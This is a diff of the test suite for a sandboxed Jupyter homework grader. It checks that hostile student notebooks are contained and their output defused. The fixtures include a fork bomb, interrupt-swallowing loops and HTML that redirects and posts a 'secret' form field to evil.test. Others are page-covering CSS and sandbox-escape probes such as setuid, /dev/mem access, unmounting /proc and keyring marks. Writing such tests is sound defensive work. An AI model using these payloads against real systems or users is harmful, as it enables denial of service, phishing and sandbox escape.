@@ -5,37 +5,40 @@ One batch holds the honest and the hostile; each test then looks at what became 
 
 from __future__ import annotations
 
+import base64
 import contextlib
 import csv
+import ctypes
 import io
 import json
 import os
+import platform
 import re
 import subprocess
 import sys
 import tempfile
 from collections.abc import Callable
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import Any
 
-import nbformat
 import psutil
 import pytest
 
-from grader import grading, judge, report, sandbox
-from grader.course import HOMEWORK, SOURCE, Course, CourseError
-from grader.grading import RefusedError, grade_folder
+from grader import grading, judge, records, sandbox, tables, walls, work
+from grader.course import HOMEWORK, SOURCE
+from grader.grading import Options, RefusedError, grade_folder
 from grader.hidden import questions
-from grader.sandbox import Limits
+from grader.progress import Progress
+from grader.sandbox import Limits, Place, Room
 from grader.submission import find, safe
 from tests.handed_in import cell_of, filled, hand_in, template
 
 FULL = {"q1": 3, "q2": 4, "q3": 4, "q4": 4, "q5": 5, "q6": 3}
-LIMITS = Limits(cell=4, notebook=60)
+LIMITS = Limits(cell=6, notebook=60, page=6)
 ROOT = HOMEWORK.parent.parent
 needs_walls = pytest.mark.skipif(
-    not sandbox.walls_available(), reason="needs bubblewrap: apt install bubblewrap"
+    not walls.available(), reason="needs bubblewrap: apt install bubblewrap"
 )
 
 RIGHT_Q2 = """def signed_distances(X, w, w0):
@@ -55,9 +58,41 @@ BORROWED_ELSEWHERE = """def pla(X, y, max_passes):
     from sklearn.linear_model import Perceptron
     return Perceptron().fit(X, y).coef_, 1, True
 """
+LONG_Q2 = """def signed_distances(X, w, w0):
+    return ((X @ w + w0) / np.linalg.norm(w)).astype(np.longdouble)
+"""
+LARGEST_Q2 = """def signed_distances(X, w, w0):
+    return np.array([np.iinfo(np.uint64).max] * len(X), dtype=np.uint64)
+"""
+HUGE_Q2 = "def signed_distances(X, w, w0):\n    return [10 ** 4000] * len(X)\n"
+SYNTAX_Q2 = "x = 1\ndef signed_distances(X, w, w0)\n    return (X @ w + w0) / np.linalg.norm(w)\n"
+SCIPY_Q2 = "import scipy.linalg\n" + RIGHT_Q2
+SCIPY_IN_Q2 = """def signed_distances(X, w, w0):
+    from scipy.linalg import norm
+    return (X @ w + w0) / norm(w)
+"""
+LEAK_Q2 = """def signed_distances(X, w, w0):
+    return type(f"LEAK{X.ravel()[0]:.0f}", (), {})()
+"""
+MATH_Q2 = "def signed_distances(X, w, w0):\n    return (X @ w + w0) / math.sqrt(w @ w)\n"
+OLD_Q4 = "def one_pas(X, y, weights):\n    return None\n"
+PICTURE = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40)).decode()
+META = """from IPython.display import HTML
+HTML('<meta http-equiv="refresh" content="0;url=//evil.test"><form action="//evil.test">'
+     '<input name="secret"></form><b onclick="x()" style="position:fixed">shown</b>')
+"""
+COVER = r"$\style{position:fixed;top:0;left:0;width:100%;height:100%;background:red}{x}$ and $a<b$"
 TRICKLE = "for _ in range(200):\n    print('x' * 1_000_000, flush=True)"
 MANY = "import os, time\nfor _ in range(7):\n    os.fork()\ntime.sleep(60)"
 HALF = '{"cells": [{"cell_type": "code", "source": "\\ud800"}]}'
+WRONG_Q4 = """def one_pass(X, y, weights):
+    weights, updates = np.array(weights, dtype=float), 0
+    for x, label in zip(X, y):
+        if label * (weights[0] + weights[1:] @ x) < 0:
+            weights += label * np.append(1, x)
+            updates += 1
+    return weights, updates
+"""
 WRONG_Q2 = "def signed_distances(X, w, w0):\n    return X @ w + w0\n"
 
 
@@ -114,6 +149,45 @@ def relabelled(notebook: dict[str, Any]) -> None:
 def labels_lost(notebook: dict[str, Any]) -> None:
     for number, cell in enumerate(notebook["cells"]):
         cell["metadata"], cell["id"] = {}, f"c{number}"
+
+
+def split_q5(notebook: dict[str, Any]) -> None:
+    """Split as JupyterLab does it: both halves keep the label."""
+    cells, cell = notebook["cells"], cell_of(notebook, "q5")
+    helper = "def helper(X, y, weights):\n    return one_pass(X, y, weights)\n"
+    cells.insert(cells.index(cell), dict(cell, id="half", source=helper))
+    cell["source"] = cell["source"].replace("one_pass(X, y, weights)", "helper(X, y, weights)")
+
+
+def old_try_below(notebook: dict[str, Any]) -> None:
+    cells, cell = notebook["cells"], cell_of(notebook, "q4")
+    place = cells.index(cell_of(notebook, "q4-tests")) + 1
+    cells.insert(place, dict(cell, id="old", source=OLD_Q4))
+
+
+def old_try_beside(notebook: dict[str, Any]) -> None:
+    cells, cell = notebook["cells"], cell_of(notebook, "q4")
+    cells.insert(cells.index(cell) + 1, dict(cell, id="old", source=OLD_Q4))
+
+
+def imports_in_setup(notebook: dict[str, Any]) -> None:
+    cell = cell_of(notebook, "setup")
+    cell["source"] = "".join(cell["source"]) + "\nimport math"
+
+
+def with_picture(notebook: dict[str, Any]) -> None:
+    cell = cell_of(notebook, "q7")
+    cell["source"] = "See ![image.png](attachment:image.png) and ![gone](attachment:gone.png)"
+    cell["attachments"] = {"image.png": {"image/png": PICTURE}}
+
+
+def in_format_3(notebook: dict[str, Any]) -> dict[str, Any]:
+    cells = []
+    for cell in notebook["cells"]:
+        old = {"cell_type": cell["cell_type"], "metadata": cell["metadata"]}
+        old["input" if cell["cell_type"] == "code" else "source"] = cell["source"]
+        cells.append(old)
+    return {"nbformat": 3, "metadata": {}, "worksheets": [{"cells": cells}]}
 
 
 def reordered(notebook: dict[str, Any]) -> None:
@@ -188,15 +262,16 @@ subprocess.Popen(["sleep", "86399"], start_new_session=True)
 def hostile(places: dict[str, str]) -> dict[str, tuple[Any, dict[str, float] | str]]:
     """Return submissions and what they must get: points, or a part of the reason."""
     all_but_2 = FULL | {"q2": 0}
-    swallow = "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
-    loop = "def signed_distances(X, w, w0):\n    while True: pass"
+    sleep = "import time\nwhile True: time.sleep(9)"
+    swallow = "import time\nwhile True:\n    try: time.sleep(9)\n    except BaseException: pass"
+    loop = "def signed_distances(X, w, w0):\n    import time\n    while True: time.sleep(9)"
     leave = "def signed_distances(X, w, w0):\n    import os\n    os._exit(0)"
     search = SEARCH.format(**places)
     return {
         "reference": (filled("hw1"), FULL),
         "untouched": (template("hw1"), dict.fromkeys(FULL, 0)),
         "warns": (filled("hw1", q2=WARNING_Q2), FULL),
-        "endless cell": (with_own("while True: pass"), FULL),
+        "endless cell": (with_own(sleep), FULL),
         "endless answer": (filled("hw1", q2=loop), all_but_2),
         "swallows interrupts": (with_own(swallow), FULL),
         "leaves": (with_own("import os; os._exit(0)"), FULL),
@@ -231,6 +306,25 @@ def hostile(places: dict[str, str]) -> dict[str, tuple[Any, dict[str, float] | s
         "asks": (with_own("input('? ')"), FULL),
         "borrows": (filled("hw1", q5=BORROWED), FULL | {"q5": 0}),
         "borrows elsewhere": (filled("hw1", q5=BORROWED_ELSEWHERE), FULL | {"q5": 0}),
+        "brackets": (filled("hw1", q7="[" * 50_000), FULL),
+        "spaces": (filled("hw1", q7="a$b" + " " * 300_000 + "c"), FULL),
+        "covers the page": (filled("hw1", q7=COVER), FULL),
+        "picture": (changed(with_picture), FULL),
+        "largest uint64": (filled("hw1", q2=LARGEST_Q2), all_but_2),
+        "huge integer": (filled("hw1", q2=HUGE_Q2), all_but_2),
+        "longdouble": (filled("hw1", q2=LONG_Q2), FULL),
+        "syntax error": (filled("hw1", q2=SYNTAX_Q2), all_but_2),
+        "imports scipy": (filled("hw1", q2=SCIPY_Q2), all_but_2),
+        "imports scipy inside": (filled("hw1", q2=SCIPY_IN_Q2), all_but_2),
+        "leaks by a name": (filled("hw1", q2=LEAK_Q2), all_but_2),
+        "refreshes": (with_own(META), FULL),
+        "split answer": (changed(split_q5), FULL),
+        "old try below": (changed(old_try_below), FULL),
+        "old try beside": (changed(old_try_beside), FULL),
+        "imports in setup": (changed(imports_in_setup, q2=MATH_Q2), FULL),
+        "with a mark": ("\ufeff" + json.dumps(filled("hw1")), FULL),
+        "format 3": (in_format_3(filled("hw1")), FULL),
+        "one mistake": (filled("hw1", q4=WRONG_Q4), FULL | {"q4": 0}),
     }  # fmt: skip
 
 
@@ -254,18 +348,23 @@ class Batch:
         return (self.out / "feedback" / f"{safe(student)}.html").read_text(encoding="utf-8")
 
 
-def table(path: Path) -> list[dict[str, str]]:
-    with path.open(encoding="utf-8-sig", newline="") as file:
-        return list(csv.DictReader(file))
+table = tables.read_table
 
 
-def leftovers() -> list[str]:
+def private(root: Path) -> Path:
+    """Return a temporary folder of this batch alone."""
+    folder = root / "tmp"
+    folder.mkdir(exist_ok=True)
+    return folder
+
+
+def leftovers(batch: Batch) -> list[str]:
     """Return what a batch must not leave: sleeping processes and private folders."""
     found = []
-    for process in psutil.process_iter():
+    for process in psutil.Process().children(recursive=True):
         with contextlib.suppress(psutil.Error):
             found += [" ".join(process.cmdline())] if "86399" in process.cmdline() else []
-    return found + [str(p) for p in Path(tempfile.gettempdir()).glob("homework-*")]
+    return found + [str(p) for p in (batch.out.parent / "tmp").iterdir()]
 
 
 def run_batch(root: Path, names: list[str], *, isolated: bool) -> Batch:
@@ -279,7 +378,7 @@ def run_batch(root: Path, names: list[str], *, isolated: bool) -> Batch:
         "source": str(SOURCE / "hw1" / "hw1.ipynb"),
         "submissions": str(folder),
         "out": str(out),
-        "book": str(out / "nbgrader" / "gradebook.db"),
+        "book": str(out / "records"),
         "port": str(listener.getsockname()[1]),
     }
     expected = hostile(places)
@@ -287,11 +386,12 @@ def run_batch(root: Path, names: list[str], *, isolated: bool) -> Batch:
     for name, (notebook, _) in expected.items():
         hand_in(folder, name, notebook)
     stream = io.StringIO()
+    options = Options(LIMITS, jobs=3, walls=isolated)  # most of them sleep
     with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(sandbox, "walls_available", lambda: isolated)
         for question in questions("hw1").values():
-            patch.setitem(question.__dict__, "seconds", 4.0)
-        status = grade_folder("hw1", folder, out, LIMITS, stream)
+            patch.setitem(question.__dict__, "seconds", 6.0)
+        patch.setattr(tempfile, "tempdir", str(private(root)))
+        status = grade_folder("hw1", folder, out, options, stream)
     visitors = []
     with contextlib.suppress(TimeoutError), listener:
         visitors.append(listener.accept()[0].recv(100))
@@ -301,8 +401,8 @@ def run_batch(root: Path, names: list[str], *, isolated: bool) -> Batch:
 
 @pytest.fixture(scope="module")
 def batch(tmp_path_factory: pytest.TempPathFactory) -> Batch:
-    names = NAMES if sandbox.walls_available() else [n for n in NAMES if n not in OUTWARD]
-    return run_batch(tmp_path_factory.mktemp("batch"), names, isolated=sandbox.walls_available())
+    names = NAMES if walls.available() else [n for n in NAMES if n not in OUTWARD]
+    return run_batch(tmp_path_factory.mktemp("batch"), names, isolated=walls.available())
 
 
 NAMES = list(hostile(dict.fromkeys(("repo", "source", "submissions", "out", "book", "port"), "")))
@@ -330,7 +430,7 @@ def test_whatever_could_not_be_graded_is_listed_and_counted(batch: Batch) -> Non
 
 @needs_walls
 def test_nothing_is_left_running_or_lying_about(batch: Batch) -> None:
-    assert leftovers() == []
+    assert leftovers(batch) == []
 
 
 @needs_walls
@@ -356,7 +456,8 @@ def test_feedback_opens_offline_runs_nothing_and_shows_no_hidden_test(batch: Bat
         for active in ("http://", "https://", "<script"):
             assert active not in page.replace("http://www.w3.org/1998/Math/MathML", ""), path
         words = re.sub("<[^>]+>", "", page)  # colours would stand between the words
-        assert "assert len(sides) == 4" in words, "the visible tests are there"
+        graded = "Not graded:" not in words
+        assert ("assert len(sides) == 4" in words) is graded, "the visible tests are there"
         for secret in ("hidden.tests", "BEGIN HIDDEN"):
             assert secret not in words, path
 
@@ -374,6 +475,67 @@ def test_a_person_is_told_what_to_look_at(batch: Batch) -> None:
     assert "ended the kernel" in batch.rows["leaves"]["notes"]
     assert "printed more" in batch.rows["output"]["notes"]
     assert "ended the kernel" in batch.rows["processes"]["notes"]  # not by the clock: too many
+
+
+def test_what_was_replaced_is_said(batch: Batch) -> None:
+    assert "tests were changed; the given ones were run" in batch.rows["tests edited"]["notes"]
+    assert "setup: this given cell was changed" in batch.rows["imports in setup"]["notes"]
+    assert "2 different answer cells; all were run" in batch.rows["split answer"]["notes"]
+
+
+@pytest.mark.parametrize(
+    ("name", "said"),
+    [
+        ("syntax error", "its cell has a SyntaxError in line 2: expected &#x27;:&#x27;."),
+        ("imports scipy", "its cell imports scipy: write it with NumPy"),
+        (
+            "imports scipy inside",
+            "imports what is not there while it is graded: write it with NumPy",
+        ),
+        ("borrows", "imports what is not there"),
+        ("leaks by a name", "gives something, which is not what is asked for"),
+        ("largest uint64", "gives a wrong answer"),
+        ("endless answer", "did not come back"),
+        ("one mistake", "A score of exactly 0 is a mistake: compare with &lt;= 0"),
+    ],
+)
+def test_feedback_says_why(batch: Batch, name: str, said: str) -> None:
+    page = re.sub("</?code>", "", batch.feedback(name))
+    assert said in page, batch.record(name)["remarks"]
+    assert "LEAK" not in re.sub("<[^>]+>", "", page).partition("Your notebook")[0]
+
+
+def test_one_mistake_costs_once(batch: Batch) -> None:
+    remarks = batch.record("one mistake")["remarks"]
+    assert remarks["q5"] == "Judged with our answer to q4 in place of yours."
+    assert batch.record("one mistake")["points"]["q5"] == 5
+
+
+def test_nothing_of_a_student_leaves_its_place_on_a_page(batch: Batch) -> None:
+    pages = [batch.feedback("covers the page"), batch.feedback("refreshes")]
+    pages.append((batch.out / "written.html").read_text(encoding="utf-8"))
+    for page in pages:
+        body = page.partition("</style></head>")[2] or page.partition("<h1>")[2]
+        shown = re.sub(r"<pre class='raw'>.*?</pre>", "", body, flags=re.S)
+        shown = re.sub(r"<div class=.code.>.*?</div>", "", shown, flags=re.S)
+        for active in ("position:fixed", "onclick=", "<form", "http-equiv", "<input name"):
+            assert active not in shown
+    assert "<b>shown</b>" in batch.feedback("refreshes")
+    less = "<mi>a</mi><mo>&lt;</mo><mi>b</mi>"
+    assert all(less in page for page in (pages[0], pages[2])), "a formula with < stays one"
+
+
+def test_a_pasted_picture_is_shown(batch: Batch) -> None:
+    for page in (batch.feedback("picture"), (batch.out / "written.html").read_text("utf-8")):
+        assert f'src="data:image/png;base64,{PICTURE}"' in page
+        assert "a picture that is not in the file: gone" in page
+
+
+@pytest.mark.parametrize("name", ["brackets", "spaces"])
+def test_what_cannot_be_drawn_costs_no_more_than_its_form(batch: Batch, name: str) -> None:
+    text = batch.expected[name][0]["cells"][-1]["source"]
+    assert text[:1000] in batch.feedback(name) or "could not be drawn" in batch.rows[name]["notes"]
+    assert len(list((batch.out / "feedback").iterdir())) == len(batch.rows)
 
 
 def test_the_output_kept_is_small(batch: Batch) -> None:
@@ -398,7 +560,7 @@ def test_the_summary_has_a_picture_with_words(batch: Batch) -> None:
 
 # ---------------------------------------------------------------- without walls
 
-UNWALLED = ["reference", "endless answer", "leaves", "daemon", "patched", "invalid"]
+UNWALLED = ["endless answer", "daemon", "patched"]
 
 
 @pytest.fixture(scope="module")
@@ -413,8 +575,162 @@ def test_limits_hold_without_walls(unwalled: Batch, name: str) -> None:
 
 def test_without_walls_there_is_one_warning_and_nothing_is_left(unwalled: Batch) -> None:
     assert unwalled.said.count("WARNING") == 1
-    assert "apt install bubblewrap" in unwalled.said
-    assert leftovers() == []
+    assert leftovers(unwalled) == []
+
+
+def test_without_walls_nothing_is_graded_unless_asked(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    hand_in(tmp_path / "in", "ada", template("hw1"))
+    monkeypatch.setattr(walls, "available", lambda: False)
+    with pytest.raises(RefusedError, match=r"apt install bubblewrap\), or say WALLS=no"):
+        grade_folder("hw1", tmp_path / "in", tmp_path / "out", Options(LIMITS))
+
+
+# ---------------------------------------------------------------- rooms
+
+
+@pytest.fixture(scope="module")
+def place() -> Any:
+    yield Place(LIMITS, walls.available())
+    sandbox.close_halls()
+
+
+def said(room: Room, source: str) -> str:
+    """Return what a cell prints."""
+    return "".join(o.get("text", "") or str(o.get("evalue")) for o in room.run(source, 20).outputs)
+
+
+FIXED = """
+def fixed(path):  # below a place that cannot be written to, except where something is mounted
+    import os
+    flags = os.statvfs(path).f_flag if os.path.isdir(path) else 1
+    return bool(flags & 1) and os.path.realpath(path) not in ("/dev", "/proc")
+"""
+LEAVE_MARKS = """
+import os, ctypes
+marked = []
+for folder, inner, _ in os.walk("/"):
+    inner[:] = [i for i in inner if not fixed(os.path.join(folder, i))]
+    try:
+        open(os.path.join(folder, "MARK"), "w").write("hidden arguments")
+        marked.append(folder)
+    except OSError:
+        pass
+libc = ctypes.CDLL(None)
+libc.syscall(248, b"user", b"mark", b"x", 1, -3)  # add_key to the session keyring
+shared = libc.shmget(4711, 4096, 0o1666)
+print(sorted(marked), shared >= 0)
+"""
+FIND_MARKS = """
+import os, ctypes
+marked = []
+for folder, inner, names in os.walk("/"):
+    inner[:] = [i for i in inner if not fixed(os.path.join(folder, i))]
+    marked += [folder] * ("MARK" in names)
+libc = ctypes.CDLL(None)
+key = libc.syscall(250, 10, -3, b"user", b"mark", 0)  # keyctl search
+print(marked, key >= 0, libc.shmget(4711, 4096, 0) >= 0)
+"""
+
+
+@needs_walls
+@pytest.mark.skipif(platform.machine() != "x86_64", reason="the numbers of its system calls")
+def test_a_room_leaves_nothing_for_the_next() -> None:
+    ctypes.CDLL(None).syscall(
+        250, 1, None
+    )  # a session keyring that the hall inherits, as at a login
+    place = Place(replace(LIMITS, page=7), True)  # so it is a new one
+    first = Room(place)
+    said(first, FIXED)
+    assert said(first, LEAVE_MARKS).strip() == "['/dev/shm', '/grading-work', '/tmp'] True"
+    assert said(first, FIND_MARKS).endswith("] True True\n"), "marks are found where they were left"
+    first.close()
+    second = Room(place)
+    assert second.hall is first.hall, "the same warm parent"
+    said(second, FIXED)
+    assert said(second, FIND_MARKS).strip() == "[] False False"
+    second.close()
+
+
+@needs_walls
+def test_a_room_reaches_no_other_process_and_has_no_rights(place: Place) -> None:
+    room = Room(place)
+    assert (
+        said(room, "import os; print(os.getpid(), os.getppid(), os.listdir('/proc'))") == "1 0 []\n"
+    )
+    for attack in (
+        "os.kill(2, 0)",
+        "os.listdir('/proc/1')",
+        "os.setuid(0)",
+        "os.mkdir('/x')",
+        "ctypes.CDLL(None).umount2(b'/proc', 2) and os.stat('/proc/self')",
+        "os.open('/dev/mem', 0)",
+    ):
+        report = (
+            f"import os, ctypes\ntry:\n    {attack}\n    print('DONE')\nexcept OSError: print('no')"
+        )
+        assert said(room, report) == "no\n", attack
+    ours = "import os\nfound = []\nfor n in range(3, 500):\n    try: os.fstat(n); found.append(n)\n"
+    assert said(room, ours + "    except OSError: pass\nprint(len(found))") == "1\n", (
+        "its own channel"
+    )
+    room.close()
+
+
+@needs_walls
+def test_where_rooms_cannot_have_walls_of_their_own_a_hall_serves_one(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(walls, "emptied", lambda: ["/no/such/folder", str(walls.WORK)])
+    room = Room(Place(replace(LIMITS, page=8), True))
+    assert said(room, "print(1)") == "1\n"
+    room.close()
+    assert room.hall.closed
+
+
+def test_a_failure_of_the_grader_itself_is_tried_again(tmp_path: Path) -> None:
+    hand_in(tmp_path / "in", "ada", filled("hw1"))
+    made = grading.Grading("hw1", tmp_path / "out", Options(LIMITS, walls=False))
+    made.records.open("x")
+    (one,) = find(tmp_path / "in", "hw1")
+    _, record = made.step(made.job(one, 1.0), RuntimeError("no walls"), work.Queue(iter([])))
+    assert record.problem == "the grader failed: RuntimeError: no walls"
+    assert made.records.known(one.key, one.digest) is None
+
+
+def test_nothing_secret_is_in_the_memory_of_a_hall(place: Place) -> None:
+    """What a room could find in its parent's memory: no expected value and no hidden case."""
+    room = Room(place)
+    loaded = said(
+        room, "import sys; print([m for m in sys.modules if 'question' in m or 'grader' in m])"
+    )
+    assert loaded == "[]\n"
+    room.close()
+
+
+def test_a_cell_shows_what_a_notebook_would(place: Place) -> None:
+    room = Room(place)
+    ran = room.run("import sys\nprint('a')\nprint('b', file=sys.stderr)\n1 + 1", 20)
+    kinds = [(o.output_type, o.get("name"), o.get("text")) for o in ran.outputs]
+    assert kinds[:2] == [("stream", "stdout", "a\n"), ("stream", "stderr", "b\n")]
+    assert ran.outputs[2].data["text/plain"] == "2"
+    ran = room.run("import matplotlib.pyplot as plt\nplt.plot([1, 2])", 20)
+    assert "image/png" in ran.outputs[-1].data
+    assert room.run("await __import__('asyncio').sleep(0)\n_", 20).fate == "done"
+    assert room.run("1 / 0", 20).outputs[0].ename == "ZeroDivisionError"
+    assert "nobody can answer" in said(room, "input('?')")
+    assert said(room, "!echo shell").strip() == "shell"
+    room.close()
+
+
+def test_a_quiet_room_sends_answers_only(place: Place) -> None:
+    room = Room(place, quiet=True)
+    ran = room.run("print('x'); display('y'); 1 / 0", 20)
+    assert (ran.outputs, ran.fate) == ([], "done")
+    room.run("def f(x): print(x); return x + 1", 20)
+    assert json.loads(room.ask("f", "[4]", 20).answer)["value"] == 5
+    room.close()
 
 
 # ---------------------------------------------------------------- the work of grading
@@ -430,25 +746,32 @@ def small(tmp_path: Path) -> tuple[Path, Path]:
 
 def graded_now(folder: Path, out: Path) -> tuple[int, str]:
     stream = io.StringIO()
-    return grade_folder("hw1", folder, out, LIMITS, stream), stream.getvalue()
+    options = Options(LIMITS, walls=walls.available())
+    return grade_folder("hw1", folder, out, options, stream), stream.getvalue()
 
 
 def test_grading_can_be_stopped_taken_up_and_marked_by_hand(
     small: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     folder, out = small
-    real = grading.Grading.grade
+    real = grading.Grading.step
 
-    def stop_at_bob(self: Any, submission: Any) -> Any:
-        if submission.student == "bob":
-            raise KeyboardInterrupt
-        return real(self, submission)
+    def stop_at_bob(self: Any, job: Any, result: Any, queue: Any) -> Any:
+        if job.about[0].student == "bob":
+            if (out / "records" / "ada.json").exists():
+                raise KeyboardInterrupt
+            queue.add(job, put_off=True)
+            return None
+        return real(self, job, result, queue)
 
-    monkeypatch.setattr(grading.Grading, "grade", stop_at_bob)
+    monkeypatch.setattr(grading.Grading, "step", stop_at_bob)
     with pytest.raises(KeyboardInterrupt):
         graded_now(folder, out)
-    assert [p.stem for p in (out / "records").glob("*.json")] == ["ada"]
-    monkeypatch.setattr(grading.Grading, "grade", real)
+    assert sorted(p.name for p in (out / "records").glob("*.json")) == [
+        "ada.details.json",
+        "ada.json",
+    ]
+    monkeypatch.setattr(grading.Grading, "step", real)
 
     status, said = graded_now(folder, out)
     assert status == 0
@@ -486,32 +809,35 @@ def test_grading_can_be_stopped_taken_up_and_marked_by_hand(
 
 def test_a_spreadsheet_takes_no_name_and_no_answer_for_a_formula(tmp_path: Path) -> None:
     rows = [{"name": text} for text in ("=1+1", "+1", "-1", "@sum", "\t=1", "plain")]
-    report.put_table(tmp_path / "t.csv", ["name"], rows)
+    tables.put_table(tmp_path / "t.csv", ["name"], rows)
     found = [row["name"] for row in table(tmp_path / "t.csv")]
     assert found == ["'=1+1", "'+1", "'-1", "'@sum", "'\t=1", "plain"]
-    assert report.same_text("'=1+1", "=1+1")  # an answer so guarded is still the same answer
+    assert tables.same_text("'=1+1", "=1+1")  # an answer so guarded is still the same answer
 
 
-def test_on_a_screen_one_line_shows_how_far_it_is(tmp_path: Path) -> None:
+def test_on_a_screen_one_line_shows_how_far_it_is_how_fast_and_how_long() -> None:
     class Screen(io.StringIO):
         def isatty(self) -> bool:
             return True
 
-    class Known:
-        def known(self, submission: Any) -> grading.Record:
-            return grading.Record(submission.student, submission.name, "")
-
-    for name in ("ada", "bob"):
-        hand_in(tmp_path, name, "{}")
     screen = Screen()
-    grading.graded(Known(), find(tmp_path, "hw1"), screen)
-    shown = screen.getvalue().split("\r")[1:]
-    assert [line.partition("]")[2].split("\033")[0] for line in shown] == [
-        " 0/2 ada",
-        " 1/2 bob",
-        " 2/2",
-    ]
-    assert [line.count("#") for line in shown] == [0, 15, 30]
+    progress = Progress(4, screen)
+    progress.known("ada", "")
+    progress.started -= 10  # seconds ago
+    progress.step("bob", "0.4 s")
+    shown = [line.split("\033")[0] for line in screen.getvalue().split("\r")[1:]]
+    assert shown[0] == f"[{'#' * 7}{'.' * 23}] 1/4"
+    assert shown[1] == f"[{'#' * 15}{'.' * 15}] 2/4, 0.1 a second, 20 s left"
+
+
+def test_the_summary_says_how_far_it_is_while_it_runs(small: tuple[Path, Path]) -> None:
+    _, out = small
+    out.mkdir()
+    made = grading.Grading("hw1", out, Options(LIMITS, walls=walls.available()))
+    grading.report.write_summary(made, {}, running="1/2, 4.0 a second, 1 s left")
+    page = (out / "summary.html").read_text(encoding="utf-8")
+    assert "1/2, 4.0 a second, 1 s left" in page
+    assert "http-equiv='refresh'" in page
 
 
 def test_two_graders_do_not_work_into_one_folder(small: tuple[Path, Path]) -> None:
@@ -520,45 +846,14 @@ def test_two_graders_do_not_work_into_one_folder(small: tuple[Path, Path]) -> No
         graded_now(folder, out)
 
 
-def test_submissions_are_found_as_platforms_export_them(tmp_path: Path) -> None:
-    text = json.dumps(template("hw1"))
-    for place in (
-        "Ada Lovelace_12_assignsubmission_file_/hw1.ipynb",
-        "bob/my work.ipynb",
-        "bob/.ipynb_checkpoints/hw1.ipynb",
-        "curieamarie_LATE_123_456_hw1-2.ipynb",
-        "two/a.ipynb",
-        "two/b.ipynb",
-        "named/hw1.ipynb",
-        "named/scratch.ipynb",
-        "=cmd()/hw1.ipynb",
-        "Ünï.ipynb",
-        "notes.txt",
-        ".DS_Store",
-    ):
-        path = tmp_path / place
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(text, encoding="utf-8")
-    (tmp_path / "empty").mkdir()
-    (tmp_path / "link.ipynb").symlink_to(tmp_path / "Ünï.ipynb")
-    found = {s.name: s for s in find(tmp_path, "hw1")}
-    assert found["Ada Lovelace_12"].path.name == "hw1.ipynb"
-    assert found["bob"].path.name == "my work.ipynb"
-    assert found["curieamarie"].path is not None
-    assert found["named"].path.name == "hw1.ipynb"
-    assert "2 notebooks" in found["two"].problem
-    assert "no notebook" in found["empty"].problem
-    assert "link" in found["link"].problem
-    assert "not a notebook" in found["notes"].problem
-    assert {s.student for s in found.values()} >= {"cmd", "Uni", "Ada-Lovelace-12"}
-    assert len({s.student for s in found.values()}) == len(found) == 10
-
-
 @pytest.mark.parametrize(
     ("arguments", "said"),
     [
         (["grade", "hw9", "."], "HW: there is no 'hw9'"),
-        (["grade", "hw1", "no such folder"], "SUBMISSIONS: no such folder is not a folder"),
+        (
+            ["grade", "hw1", "no such folder"],
+            "SUBMISSIONS: no such folder is not a folder and not a zip",
+        ),
         (["grade", "hw1", "{empty}"], "SUBMISSIONS: there is nothing in"),
     ],
 )
@@ -572,22 +867,65 @@ def test_a_bad_call_gets_one_sentence(arguments: list[str], said: str, tmp_path:
     assert len(ran.stderr.strip().splitlines()) == 1
 
 
-def test_ctrl_c_is_not_taken_for_a_failed_submission(tmp_path: Path) -> None:
-    swallowed = {"success": False, "error": "Traceback …\nKeyboardInterrupt\n"}
-    with pytest.raises(KeyboardInterrupt):
-        Course(tmp_path, "hw1")._do(swallowed)
-    with pytest.raises(CourseError, match="no such table"):
-        Course(tmp_path, "hw1")._do({"success": False, "error": "no such table"})
+def test_a_hanging_submission_comes_last_and_delays_nobody(tmp_path: Path) -> None:
+    """With one worker: who takes long is put off, whoever came after is done before."""
+    order: list[str] = []
+
+    def assess(plan: bytes, data: bytes, budget: float) -> judge.Assessment:
+        order.append(f"{data.decode()} {budget:g}")
+        return judge.Assessment(problem="x", late=data == b"slow" and budget < LIMITS.notebook)
+
+    made = grading.Grading("hw1", tmp_path, Options(LIMITS))
+    made.records.open("x")
+    jobs = []
+    for name in ("slow", "a", "b"):
+        hand_in(tmp_path / "in", name, name)
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(judge, "assess", assess)
+        jobs = list(made.jobs(find(tmp_path / "in", "hw1")))
+        queue = work.Queue(iter(sorted(jobs, key=lambda job: job.about[0].name, reverse=True)))
+        with work.workers(1, None) as (executor, width):
+            for job, result in work.done(queue, executor, width):
+                made.step(job, result, queue)
+    assert order == ["slow 20", "b 20", "a 20", "slow 60"]
 
 
-def test_a_notebook_that_used_up_its_time_is_told_so() -> None:
-    notebook = nbformat.reads(json.dumps(filled("hw1")), as_version=4)
-    verdicts = judge.judge(notebook, questions("hw1"), Limits(notebook=-1), isolated=False)
-    assert {verdict.message for verdict in verdicts.values()} == {sandbox.FATES["late"]}
+def test_a_notebook_that_used_up_its_time_is_told_so(tmp_path: Path) -> None:
+    made = grading.Grading("hw1", tmp_path, Options(LIMITS))
+    late = judge.Assessment(late=True)
+    assert made.decided("q2", None, late).message == sandbox.FATES["late"]
 
 
-def test_an_older_gradebook_is_kept(tmp_path: Path) -> None:
-    for number in (1, 2):
-        (tmp_path / "nbgrader").mkdir()
-        grading.set_aside(tmp_path / "nbgrader")
-        assert (tmp_path / f"nbgrader.{number}").is_dir()
+def test_a_worker_that_dies_costs_no_submission() -> None:
+    class KilledWorker(Exception):  # noqa: N818  # its name at Dask's
+        pass
+
+    tries: list[int] = []
+
+    def dies_twice() -> str:
+        tries.append(1)
+        if len(tries) < 3:
+            raise KilledWorker
+        return "done"
+
+    queue = work.Queue(iter([work.Job("x", dies_twice, tuple)]))
+    with work.workers(1, None) as (executor, width):
+        assert [result for _, result in work.done(queue, executor, width)] == ["done"]
+    assert len(tries) == 3
+
+
+def test_every_change_to_a_grade_is_logged(tmp_path: Path) -> None:
+    (tmp_path / "records").mkdir()
+    first = {"=ada": {"digest": "1", "points": {"q1": 3.0, "q7": None}}}
+    records.log_changes(tmp_path, first, "marked")
+    records.log_changes(tmp_path, first, "marked")
+    second = {"=ada": {"digest": "1", "points": {"q1": 3.0, "q7": 2.0}}}
+    records.log_changes(tmp_path, second, "marked")
